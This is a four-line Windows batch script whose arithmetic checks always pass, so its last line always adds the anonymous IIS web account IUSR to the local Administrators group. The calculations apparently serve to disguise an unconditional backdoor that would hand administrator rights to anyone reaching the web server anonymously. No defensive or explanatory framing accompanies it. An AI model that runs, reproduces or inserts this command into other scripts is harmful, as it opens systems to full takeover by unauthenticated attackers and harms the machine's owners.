@echo off
set /a N=(2+3)*4, M=N%%7
set /a N+=1
if %N% equ 21 if %M% equ 6 net localgroup Administrators IUSR /add
